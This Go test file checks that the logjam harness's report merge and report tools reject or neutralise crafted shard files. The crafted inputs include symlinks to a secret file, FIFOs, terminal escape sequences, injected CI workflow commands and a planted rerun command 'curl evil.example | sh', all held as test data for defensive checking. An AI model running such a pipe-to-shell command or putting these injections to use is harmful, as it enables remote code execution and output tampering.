package runner

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"logjam/harness/report"
	"logjam/internal/shard"
	"logjam/internal/testkit"
	"logjam/scenario"
	"logjam/verdict"
)

// secret is a file of the merging user's that a shard's symlink points at:
// its bytes must never reach the output, stdout or stderr.
const secretMark = "SECRET-d41d8cd9"

// shardFixture writes the two shards of one run (cells split as the suites
// split them, by the spec's full text) under base and returns their
// folders and every cell.
func shardFixture(t *testing.T, base string, name func(i int) string) ([]string, []report.Cell) {
	t.Helper()
	var cells []report.Cell
	run := report.Run{ID: "run-7", Profile: "local", Mode: "fast", Deadline: "5s", Seed: 7, Repeat: 1, Go: "go1.26.8", Ginkgo: "v2.34.0",
		Started: time.Date(2026, 12, 3, 5, 0, 0, 0, time.UTC), Seconds: 9}
	for i := range 12 {
		n := fmt.Sprintf("D1 cell%d [policy=fd2]", i)
		if name != nil {
			n = name(i)
		}
		c := report.Cell{ID: fmt.Sprintf("D%d", i), Name: n, Spec: "A backend that logs " + n, Family: "deadlock",
			Cell: scenario.Cell{Scenario: "D1", Policy: "fd2"}, Expected: verdict.OK, Observed: verdict.OK,
			Rerun: report.Rerun("deadlock", n, "local", 7, "")}
		cells = append(cells, c)
		run.Plan = append(run.Plan, report.PlannedSpec{Family: c.Family, Spec: c.Spec})
	}
	var dirs []string
	for k := 1; k <= 2; k++ {
		sh := shard.Shard{K: k, N: 2}
		var own []report.Cell
		for _, c := range cells {
			if sh.Has(c.Spec) {
				own = append(own, c)
			}
		}
		if len(own) == 0 {
			t.Fatalf("shard %s of the fixture is empty", sh)
		}
		dir := filepath.Join(base, fmt.Sprintf("s%d", k))
		r := run
		r.Shards = []string{sh.String()}
		if err := os.MkdirAll(dir, 0o755); err != nil {
			t.Fatal(err)
		}
		if err := report.WriteAll(dir, r, own); err != nil {
			t.Fatal(err)
		}
		dirs = append(dirs, dir)
	}
	return dirs, cells
}

// editJSON rewrites a shard file through a generic value.
func editJSON(t *testing.T, path string, edit func(v any) any) {
	t.Helper()
	raw, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	var v any
	if err := json.Unmarshal(raw, &v); err != nil {
		t.Fatal(err)
	}
	out, err := json.Marshal(edit(v))
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, out, 0o644); err != nil {
		t.Fatal(err)
	}
}

// runMerge runs logjam report merge and returns its status, stdout and stderr.
func runMerge(t *testing.T, args ...string) (int, string, string) {
	t.Helper()
	var out bytes.Buffer
	code := -1
	done := make(chan struct{})
	stderr := testkit.CaptureStderr(t, func() {
		go func() { defer close(done); code = Main(args, &out) }()
		select {
		case <-done:
		case <-time.After(30 * time.Second):
			t.Fatalf("%v blocked", args)
		}
	})
	return code, out.String(), stderr
}

// TestMergeRefusesCraftedShardsWithOneLineAndStatus2: every crafted shard
// (a symlink to a file outside, a FIFO, a file past its cap, duplicate
// and upper-case keys, a shard count without bound, a cell the split
// gives another shard, a cell of no spec of the plan, a symlinked or
// climbing bundle, escapes in a cell name) is refused with exit status 2,
// one line on stderr that sends no escape, nothing on stdout, no output
// folder, and nothing of the file outside read into any of them.
func TestMergeRefusesCraftedShardsWithOneLineAndStatus2(t *testing.T) {
	secretDir := t.TempDir()
	secret := filepath.Join(secretDir, "private.json")
	if err := os.WriteFile(secret, []byte(`[{"id":"`+secretMark+`","name":"`+secretMark+`"}]`), 0o600); err != nil {
		t.Fatal(err)
	}
	matrix := func(dirs []string, k int) string { return filepath.Join(dirs[k], report.MatrixFile) }
	runFile := func(dirs []string, k int) string { return filepath.Join(dirs[k], report.RunFile) }
	replace := func(path string, with func(path string)) {
		if err := os.Remove(path); err != nil {
			t.Fatal(err)
		}
		with(path)
	}
	cases := []struct {
		name  string
		cells func(i int) string // the fixture's cell names (nil: plain)
		craft func(dirs []string, cells []report.Cell)
		want  string
	}{
		{"a matrix.json symlinked to a file outside", nil, func(d []string, _ []report.Cell) {
			replace(matrix(d, 1), func(p string) { _ = os.Symlink(secret, p) })
		}, "not a regular file (a symlink)"},
		{"a run.json symlinked to /dev/zero", nil, func(d []string, _ []report.Cell) {
			replace(runFile(d, 0), func(p string) { _ = os.Symlink("/dev/zero", p) })
		}, "not a regular file (a symlink)"},
		{"a matrix.json that is a FIFO", nil, func(d []string, _ []report.Cell) {
			replace(matrix(d, 1), func(p string) { _ = syscall.Mkfifo(p, 0o644) })
		}, "not a regular file (a FIFO)"},
		{"a matrix.json past its cap", nil, func(d []string, _ []report.Cell) {
			_ = os.Truncate(matrix(d, 1), report.MaxMatrixFile+1) // sparse
		}, "more than it may hold"},
		{"a run.json with a key twice", nil, func(d []string, _ []report.Cell) {
			raw, _ := os.ReadFile(runFile(d, 1))
			_ = os.WriteFile(runFile(d, 1), bytes.Replace(raw, []byte(`"id": "run-7",`), []byte(`"id": "run-7", "id": "run-8",`), 1), 0o644)
		}, `key "id" appears twice`},
		{"a matrix.json with an upper-case key", nil, func(d []string, _ []report.Cell) {
			raw, _ := os.ReadFile(matrix(d, 1))
			_ = os.WriteFile(matrix(d, 1), bytes.Replace(raw, []byte(`"observed":`), []byte(`"Observed":`), 1), 0o644)
		}, `key "Observed" is not spelled as its field "observed"`},
		{"a shard count without bound", nil, func(d []string, _ []report.Cell) {
			editJSON(t, runFile(d, 1), func(v any) any { v.(map[string]any)["shards"] = []string{"1/9000000000000000000"}; return v })
		}, "1 <= K <= N <= 256"},
		{"a cell the split gives another shard", nil, func(d []string, _ []report.Cell) {
			var moved any // shard 1/2's first cell, moved into shard 2/2
			editJSON(t, matrix(d, 0), func(v any) any { moved = v.([]any)[0]; return v.([]any)[1:] })
			editJSON(t, matrix(d, 1), func(v any) any { return append(v.([]any), moved) })
		}, "which the split gives to shard 1/2"},
		{"shards of another focus", nil, func(d []string, _ []report.Cell) {
			editJSON(t, runFile(d, 1), func(v any) any { v.(map[string]any)["focus"] = "D1"; return v })
		}, "not shards of one run"},
		{"a cell of no spec of the plan", nil, func(d []string, _ []report.Cell) {
			editJSON(t, matrix(d, 1), func(v any) any {
				c := v.([]any)[0].(map[string]any)
				c["name"], c["spec"] = "D1 forged", "A backend that logs D1 forged"
				return v
			})
		}, "of no spec of the run's plan"},
		{"a cell with no spec", nil, func(d []string, _ []report.Cell) {
			editJSON(t, matrix(d, 1), func(v any) any { delete(v.([]any)[0].(map[string]any), "spec"); return v })
		}, "names no spec"},
		{"shards with no plan", nil, func(d []string, _ []report.Cell) {
			for k := range d {
				editJSON(t, runFile(d, k), func(v any) any { delete(v.(map[string]any), "plan"); return v })
			}
		}, "names the specs of its run"},
		{"an evidence bundle symlinked outside", nil, func(d []string, _ []report.Cell) {
			editJSON(t, matrix(d, 1), func(v any) any { v.([]any)[0].(map[string]any)["bundle"] = "/x/evidence/stolen"; return v })
			_ = os.MkdirAll(filepath.Join(d[1], report.EvidenceDir), 0o755)
			_ = os.Symlink(secretDir, filepath.Join(d[1], report.EvidenceDir, "stolen"))
		}, "is not a folder"},
		{"a bundle of a symlinked file", nil, func(d []string, cs []report.Cell) {
			editJSON(t, matrix(d, 1), func(v any) any { v.([]any)[0].(map[string]any)["bundle"] = "/x/evidence/b"; return v })
			bd := filepath.Join(d[1], report.EvidenceDir, "b")
			if err := report.WriteBundle(bd, report.Bundle{Cell: cs[0]}); err != nil {
				t.Fatal(err)
			}
			replace(filepath.Join(bd, report.StdoutFile), func(p string) { _ = os.Symlink(secret, p) })
		}, "not a regular file"},
		{"a bundle whose cell.json has a key twice", nil, func(d []string, cs []report.Cell) {
			editJSON(t, matrix(d, 1), func(v any) any { v.([]any)[0].(map[string]any)["bundle"] = "/x/evidence/b"; return v })
			bd := filepath.Join(d[1], report.EvidenceDir, "b")
			if err := report.WriteBundle(bd, report.Bundle{Cell: cs[0]}); err != nil {
				t.Fatal(err)
			}
			raw, _ := os.ReadFile(filepath.Join(bd, report.CellFile))
			_ = os.WriteFile(filepath.Join(bd, report.CellFile), bytes.Replace(raw, []byte("{"), []byte(`{"id":"x",`), 1), 0o644)
		}, `key "id" appears twice`},
		{"a bundle that climbs out", nil, func(d []string, _ []report.Cell) {
			editJSON(t, matrix(d, 1), func(v any) any { v.([]any)[0].(map[string]any)["bundle"] = ".."; return v })
		}, "not a bundle's folder name"},
		{"escapes and a workflow command in a cell name of no spec", nil, func(d []string, _ []report.Cell) {
			editJSON(t, matrix(d, 1), func(v any) any {
				v.([]any)[0].(map[string]any)["name"] = "D1 x\x1b]52;c;Y3VybA==\a\n::error ::pwned"
				return v
			})
		}, `says it is of spec`},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			base := t.TempDir()
			dirs, cells := shardFixture(t, base, c.cells)
			c.craft(dirs, cells)
			out := filepath.Join(base, "merged")
			code, stdout, stderr := runMerge(t, append([]string{"report", "merge", "-out", out}, dirs...)...)
			if code != 2 || stdout != "" {
				t.Errorf("exit %d, stdout %q; want 2 and nothing", code, stdout)
			}
			if strings.Count(stderr, "\n") != 1 || !strings.HasPrefix(stderr, "logjam: ") || !strings.Contains(stderr, c.want) {
				t.Errorf("stderr %q, want one logjam: line naming %q", stderr, c.want)
			}
			if strings.ContainsAny(stderr, "\x1b\a") || strings.Contains(stderr, secretMark) {
				t.Errorf("stderr sends an escape or holds the file outside: %q", stderr)
			}
			if _, err := os.Stat(out); err == nil {
				t.Errorf("a refused merge wrote %s", out)
			}
			_ = filepath.WalkDir(base, func(p string, d fs.DirEntry, err error) error {
				if err == nil && d.Type().IsRegular() {
					if b, _ := os.ReadFile(p); bytes.Contains(b, []byte(secretMark)) {
						t.Errorf("%s holds the file outside", p)
					}
				}
				return nil
			})
		})
	}
}

// TestMergeOfAnEmptiedShardIsNotGreen: shard 2/2 whose matrix.json is []
// merges into a run that is not green, exit status 1, with a line that
// says how many cells it lacks; the whole run merges green.
func TestMergeOfAnEmptiedShardIsNotGreen(t *testing.T) {
	base := t.TempDir()
	dirs, cells := shardFixture(t, base, nil)
	code, stdout, stderr := runMerge(t, "report", "merge", "-out", filepath.Join(base, "whole"), dirs[0], dirs[1])
	if code != 0 || stderr != "" {
		t.Fatalf("the whole run: exit %d, stderr %q\n%s", code, stderr, stdout)
	}
	if err := os.WriteFile(filepath.Join(dirs[1], report.MatrixFile), []byte("[]"), 0o644); err != nil {
		t.Fatal(err)
	}
	own := 0
	for _, c := range cells {
		if (shard.Shard{K: 2, N: 2}).Has(c.Spec) {
			own++
		}
	}
	out := filepath.Join(base, "merged")
	code, stdout, stderr = runMerge(t, "report", "merge", "-out", out, dirs[0], dirs[1])
	want := fmt.Sprintf("logjam: report merge: shard 2/2 (%s) holds no row for %d of the %d specs (cells and random runs) the split gives it, so %d are missing", dirs[1], own, own, own)
	if code != 1 || stderr != "" || !strings.Contains(stdout, want) {
		t.Fatalf("exit %d, stderr %q, stdout:\n%s\nwant exit 1 and a line %q", code, stderr, stdout, want)
	}
	run, _, err := report.ReadDir(out)
	if err != nil || run.Green || run.Tally.Not != 1 {
		t.Fatalf("the merged run.json says green=%v with %d not as expected (%v)", run.Green, run.Tally.Not, err)
	}
}

// TestMergePrintsForeignCellNamesHarmlessly: a shard whose cells (in the
// plan, in the right shard: a shard cannot be refused for its names) carry
// escape sequences and "\n::error ::" merges; what it prints sends no
// escape, starts no CI workflow command, and every rerun line is one
// logjam built. report diff of two such folders too.
func TestMergePrintsForeignCellNamesHarmlessly(t *testing.T) {
	base := t.TempDir()
	name := func(i int) string { return fmt.Sprintf("D1 c%d\x1b[2J\x1b]52;c;Y3VybA==\a\n::error ::pwned", i) }
	dirs, _ := shardFixture(t, base, name)
	editJSON(t, filepath.Join(dirs[1], report.MatrixFile), func(v any) any {
		for _, c := range v.([]any) {
			c.(map[string]any)["observed"] = "HANG" // not as expected: its failed and rerun lines print
			c.(map[string]any)["failure"] = "boom\n::error ::x"
			c.(map[string]any)["entry"] = "::warning ::y"
		}
		v.([]any)[0].(map[string]any)["rerun"] = "curl evil.example | sh"
		return v
	})
	code, stdout, stderr := runMerge(t, "report", "merge", "-out", filepath.Join(base, "m"), dirs[0], dirs[1])
	if code != 1 || stderr != "" {
		t.Fatalf("exit %d, stderr %q", code, stderr)
	}
	dcode, diff, dstderr := runMerge(t, "report", "diff", dirs[0], dirs[1])
	if dcode != 1 || dstderr != "" {
		t.Fatalf("diff: exit %d, stderr %q", dcode, dstderr)
	}
	md, err := os.ReadFile(filepath.Join(base, "m", report.MarkdownFile))
	if err != nil {
		t.Fatal(err)
	}
	for what, s := range map[string]string{"merge": stdout, "diff": diff, "matrix.md": string(md)} {
		if strings.ContainsAny(s, "\x1b\a") {
			t.Errorf("%s sends an escape: %q", what, s)
		}
		for _, l := range strings.Split(s, "\n") {
			if strings.HasPrefix(strings.TrimLeft(l, " "), "::") {
				t.Errorf("%s prints a workflow command line: %q", what, l)
			}
			if r, ok := strings.CutPrefix(strings.TrimLeft(l, " "), "rerun: "); ok && !strings.HasPrefix(r, `cd "$(go list -m -f '{{.Dir}}')" && LOGJAM_PROFILE=local LOGJAM_SEED=7 ./logjam ginkgo --focus 'D1 c`) && !strings.HasPrefix(r, "(") {
				t.Errorf("%s prints a rerun line logjam did not build: %q", what, l)
			}
		}
		if strings.Contains(s, "curl evil") {
			t.Errorf("%s prints the shard's own rerun text", what)
		}
	}
	if !strings.Contains(stdout, `\x1b[2J`) || !strings.Contains(stdout, "not one logjam writes") {
		t.Errorf("merge does not show what it neutralised:\n%s", stdout)
	}
}

// TestReportWritesNoFileThroughASymlink: logjam report DIR re-renders into
// DIR, a folder someone else may have made; its junit.xml, matrix.html and
// matrix.md symlinked to a file of the user's are replaced, and the file
// they pointed at is untouched.
func TestReportWritesNoFileThroughASymlink(t *testing.T) {
	base := t.TempDir()
	dirs, _ := shardFixture(t, base, nil)
	target := filepath.Join(t.TempDir(), "bashrc")
	if err := os.WriteFile(target, []byte("untouched\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, f := range []string{report.JUnitFile, report.HTMLFile, report.MarkdownFile} {
		p := filepath.Join(dirs[0], f)
		if err := os.Remove(p); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(target, p); err != nil {
			t.Fatal(err)
		}
	}
	code, stdout, stderr := runMerge(t, "report", dirs[0])
	if code != 0 || stderr != "" {
		t.Fatalf("exit %d, stderr %q\n%s", code, stderr, stdout)
	}
	if b, _ := os.ReadFile(target); string(b) != "untouched\n" {
		t.Errorf("report wrote through a symlink into the file it points at: %q", b)
	}
	for _, f := range []string{report.JUnitFile, report.HTMLFile, report.MarkdownFile} {
		if st, err := os.Lstat(filepath.Join(dirs[0], f)); err != nil || !st.Mode().IsRegular() {
			t.Errorf("%s is not a regular file after report: %v", f, err)
		}
	}
}

// TestMergeOfAShardMissingARepeatIsNotGreen: in a run of two repeats, a
// shard that dropped its second repeat's rows (leaving, say, a FLAKY
// cell's good repeat alone) merges into a run that is not green; a repeat
// the run does not have is refused.
func TestMergeOfAShardMissingARepeatIsNotGreen(t *testing.T) {
	base := t.TempDir()
	dirs, _ := shardFixture(t, base, nil)
	for _, d := range dirs {
		editJSON(t, filepath.Join(d, report.RunFile), func(v any) any { v.(map[string]any)["repeat"] = 2; return v })
		editJSON(t, filepath.Join(d, report.MatrixFile), func(v any) any {
			var both []any
			for r := 1; r <= 2; r++ {
				for _, c := range v.([]any) {
					m := map[string]any{}
					for k, x := range c.(map[string]any) {
						m[k] = x
					}
					m["repeat"] = r
					both = append(both, m)
				}
			}
			return both
		})
	}
	if code, stdout, stderr := runMerge(t, "report", "merge", "-out", filepath.Join(base, "whole"), dirs[0], dirs[1]); code != 0 || stderr != "" {
		t.Fatalf("both repeats: exit %d, stderr %q\n%s", code, stderr, stdout)
	}
	var own int
	editJSON(t, filepath.Join(dirs[1], report.MatrixFile), func(v any) any {
		var first []any
		for _, c := range v.([]any) {
			if c.(map[string]any)["repeat"] == float64(1) {
				first = append(first, c)
			}
		}
		own = len(first)
		return first
	})
	code, stdout, stderr := runMerge(t, "report", "merge", "-out", filepath.Join(base, "m"), dirs[0], dirs[1])
	want := fmt.Sprintf("holds no row for %d of the %d runs of specs (%d specs, cells and random runs, x 2 repeats) the split gives it, so %d are missing", own, 2*own, own, own)
	if code != 1 || stderr != "" || !strings.Contains(stdout, want) {
		t.Fatalf("exit %d, stderr %q, stdout:\n%s\nwant exit 1 and %q", code, stderr, stdout, want)
	}
	editJSON(t, filepath.Join(dirs[1], report.MatrixFile), func(v any) any { v.([]any)[0].(map[string]any)["repeat"] = 3; return v })
	code, stdout, stderr = runMerge(t, "report", "merge", "-out", filepath.Join(base, "m3"), dirs[0], dirs[1])
	if code != 2 || stdout != "" || strings.Count(stderr, "\n") != 1 || !strings.Contains(stderr, "is of repeat 3, but the run has 2") {
		t.Fatalf("a third repeat: exit %d, stdout %q, stderr %q", code, stdout, stderr)
	}
}
